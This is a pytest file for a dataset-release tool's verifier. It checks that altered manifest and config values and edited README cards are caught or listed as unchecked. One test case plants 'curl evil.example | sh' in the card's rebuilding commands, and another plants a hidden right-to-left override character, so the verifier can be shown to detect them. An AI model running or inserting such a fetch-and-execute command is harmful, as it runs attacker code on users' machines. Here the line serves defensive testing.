"""Every value of a manifest, a configuration and a card is confirmed by the rest of the
release, or `verify` lists it as not checked.
"""

import copy
import json
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest

from cotbuild.builder.build.directory import CARD
from cotbuild.builder.evaluation.models import open_build
from cotbuild.builder.release import check
from cotbuild.builder.release.check import VerifyOptions, verify_folder
from cotbuild.builder.release.config_check import CONFIRMED_BY
from cotbuild.builder.terminal import Terminal
from cotbuild.schemas.config import BuildConfig, SourceConfig
from cotbuild.schemas.errors import CotbuildError, DataError
from cotbuild.schemas.record import Record
from cotbuild.schemas.teacher_config import TeacherConfig
from tests.support.commands import cotbuild, invoke, write_questions

Path_ = tuple[str | int, ...]
REPEAT = "repeat"
"""Last part of the path of a list: its first entry is to be repeated."""


@pytest.fixture(scope="module")
def small_release(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A release of six rationales and two variants. Not to be written to."""
    folder = tmp_path_factory.mktemp("every-field")
    for split, count in (("train", 3), ("test", 2)):
        write_questions(
            folder / f"{split}.jsonl", (f"Which {n} of {split}?" for n in range(count))
        )
    out, release = folder / "build", folder / "release"
    words = ["generate", "--source", folder, "--eval-splits", "test", "--samples", "2"]
    cotbuild(*words, "--teacher", "scripted", "--out", out)
    invoke("variants", out, "--only", "label_only,post_cot")
    cotbuild("publish", out, f"file:{release}", "--tag", "v1", "--language", "en")
    return release


@pytest.fixture
def release(small_release: Path, tmp_path: Path) -> Path:
    """A copy that a test alters."""
    return Path(shutil.copytree(small_release, tmp_path / "release"))


def paths_of(value: Any, path: Path_ = ()) -> Iterator[Path_]:
    """Yield the path of every value, of lists those of the first entry."""
    if isinstance(value, dict) and value:
        for name, part in value.items():
            yield from paths_of(part, (*path, name))
    elif isinstance(value, list) and value:
        yield from paths_of(value[0], (*path, 0))
        yield (*path, REPEAT)
    else:
        yield path


def others(value: Any) -> list[Any]:
    """Return values of the same type, or for None and what is empty of likely types."""
    if isinstance(value, bool):
        return [not value]
    if isinstance(value, int):
        return [value + 1]
    if isinstance(value, float):
        return [value + 0.01 if value < 0.5 else value - 0.01]
    if isinstance(value, str):
        return [f"{value}x"]
    return ["other", 7, ["other"], ["cut"], {"cut": 7}, {"other": "other"}]


def altered(document: Any, path: Path_) -> Iterator[Any]:
    """Yield copies of a document in which the value at a path is another one."""
    *parents, last = path
    holder = document
    for part in parents:
        holder = holder[part]
    changes = [holder[0]] if last == REPEAT else others(holder[last])
    for change in changes:
        new = copy.deepcopy(document)
        holder = new
        for part in parents:
            holder = holder[part]
        if last == REPEAT:
            holder.append(change)
        else:
            holder[last] = change
        yield new


def is_listed(path: Path_, line: str) -> bool:
    """Whether a line names the field at a path, or one that holds it."""
    names = [str(part) for part in path if isinstance(part, str) and part != REPEAT]
    listed = line.partition(": ")[2].split(", ")
    return any(".".join(names[:end]) in listed for end in range(1, len(names) + 1))


@pytest.mark.parametrize("name", ["manifest.json", "build.json"])
def test_every_value_is_confirmed_or_listed(
    release: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(check, "check_pictures", lambda _: [])  # half a second each
    _, lines = verify_folder(release, VerifyOptions(all_rows=True))
    document = json.loads((release / name).read_text())
    num_found, missed = 0, []
    for path in paths_of(document):
        for new in altered(document, path):
            (release / name).write_text(json.dumps(new))
            try:
                verify_folder(release, VerifyOptions(all_rows=True))
            except CotbuildError:
                num_found += 1
            else:
                if not is_listed(path, lines[-1]):
                    missed.append(path)
    assert missed == []
    assert num_found > 30


@pytest.mark.parametrize("record", [BuildConfig, SourceConfig, TeacherConfig])
def test_a_new_setting_says_what_confirms_it(record: type[Record]) -> None:
    assert list(CONFIRMED_BY[record.__name__]) == list(record.model_fields), (
        f"list every field of {record.__name__} in CONFIRMED_BY, with what confirms it"
    )


# -- the card --------------------------------------------------------------------------


def edit(*replacements: tuple[str, str]) -> Callable[[str], str]:
    def change(text: str) -> str:
        for old, new in replacements:
            assert old in text, old
            text = text.replace(old, new, 1)
        return text

    return change


CARD_EDITS: dict[str, tuple[Callable[[str], str], str]] = {
    "a sentence": (edit(("checked by hand", "checked by us")), "has 'us: a verdict"),
    "a figure": (
        edit(("| rationales |", "| rationales|")),
        "below the front matter has",
    ),
    "a line at the end": (lambda text: f"{text}\nSee our site.\n", "'See our site.'"),
    "nothing but the front matter": (
        lambda text: text[: text.index("\n---\n", 4) + 5],
        "line 2 below",
    ),
    "the rebuilding commands": (
        edit(("cotbuild generate", "curl evil.example | sh; cotbuild generate")),
        "curl evil",
    ),
    "a hidden character": (edit(("They were", "They\u202e were")), r"They\u202e were"),
    "pretty_name": (edit(("pretty_name:", "pretty_name: Best")), "front matter"),
    "another key": (
        edit(("configs:\n", "inference: false\nconfigs:\n")),
        "front matter",
    ),
    "a licence that the Hub does not know": (
        edit(("license: ", "license: free-")),
        "front matter license is 'free-",
    ),
    "a licence that the parts do not give": (
        edit(("license: ", "license: mit #")),
        "below the front matter",
    ),
    "number of rows": (edit(("num_examples: 6", "num_examples: 9")), "num_examples"),
}


@pytest.mark.parametrize(("change", "words"), CARD_EDITS.values(), ids=list(CARD_EDITS))
def test_an_edited_card_of_a_release_is_named_with_the_line(
    release: Path, change: Callable[[str], str], words: str
) -> None:
    text = (release / CARD).read_text(encoding="utf-8")
    (release / CARD).write_text(change(text), encoding="utf-8")
    with pytest.raises(DataError) as caught:
        verify_folder(release, VerifyOptions())
    line = str(caught.value)
    assert line.startswith(f"{release}/{CARD}: ")
    assert words in line
    assert line.isprintable()


def test_what_a_publisher_states_is_taken_from_the_card_and_listed(
    release: Path,
) -> None:
    text = (release / CARD).read_text(encoding="utf-8")
    changed = text.replace('revision="v1"', 'revision="v2"').replace("@v1", "@v2")
    changed = changed.replace(", v1}", ", v2}").replace("- en", "- de")
    (release / CARD).write_text(changed, encoding="utf-8")
    _, lines = verify_folder(release, VerifyOptions())
    stated = [line for line in lines if "states for the publisher" in line]
    assert len(stated) == 1
    assert stated[0].startswith(
        "not checked: what README.md states for the publisher: name 'release@v2', date '"
    )
    assert stated[0].endswith("', licence 'unknown', languages 'de'")


def test_a_card_of_another_version_is_compared_as_far_as_datasets_reads_it(
    release: Path,
) -> None:
    manifest = json.loads((release / "manifest.json").read_text())
    manifest["card_version"] = None
    (release / "manifest.json").write_text(json.dumps(manifest))
    text = (release / CARD).read_text(encoding="utf-8")
    (release / CARD).write_text(text.replace("by hand", "by us"), encoding="utf-8")
    _, lines = verify_folder(release, VerifyOptions())
    assert (
        "not checked: the text of README.md, written by another version of cotbuild"
        in lines
    )
    (release / CARD).write_text(text.replace("num_examples: 6", "num_examples: 7"))
    with pytest.raises(DataError, match="num_examples is 7"):
        verify_folder(release, VerifyOptions())


def test_the_card_of_a_local_build_may_be_edited(release: Path) -> None:
    (release / ".answers").mkdir()  # so it is somebody's own folder, not a release
    text = (release / CARD).read_text(encoding="utf-8")
    (release / CARD).write_text(f"{text}\nMy own notes.\n", encoding="utf-8")
    _, lines = verify_folder(release, VerifyOptions())
    edited = [line for line in lines if line.startswith("not checked: README.md")]
    assert len(edited) == 1
    assert "'My own notes.'" in edited[0]
    own_licence = text.replace("license: ", "license: my-own-")
    (release / CARD).write_text(own_licence, encoding="utf-8")
    assert "front matter" in str(verify_folder(release, VerifyOptions())[1])


def test_pictures_are_drawn_again(release: Path) -> None:
    assert not any(
        ".png" in line for line in verify_folder(release, VerifyOptions())[1]
    )
    picture = release / "figures" / "lengths.png"
    picture.write_bytes((release / "figures" / "verdicts.png").read_bytes())
    _, lines = verify_folder(release, VerifyOptions())
    assert [
        line for line in lines if line.startswith("not checked: figures/lengths.png")
    ]
    picture.unlink()
    with pytest.raises(
        DataError, match=r"lengths\.png: missing, but README\.md shows it"
    ):
        verify_folder(release, VerifyOptions())


# -- what else reads a release ---------------------------------------------------------


def test_a_release_to_train_on_is_compared_with_its_manifest(
    release: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COTBUILD_CACHE", str(tmp_path / "cache"))
    name = f"file:{release}"
    build = open_build(name, Terminal())
    assert build.folder.is_relative_to(tmp_path / "cache")
    file = release / build.files("post_cot", "train")[0].path
    table = pq.read_table(file)
    pq.write_table(table.slice(0, 5), file, compression="zstd")
    with pytest.raises(DataError, match=r"post_cot/train-.*: (size|sha256) "):
        open_build(name, Terminal())
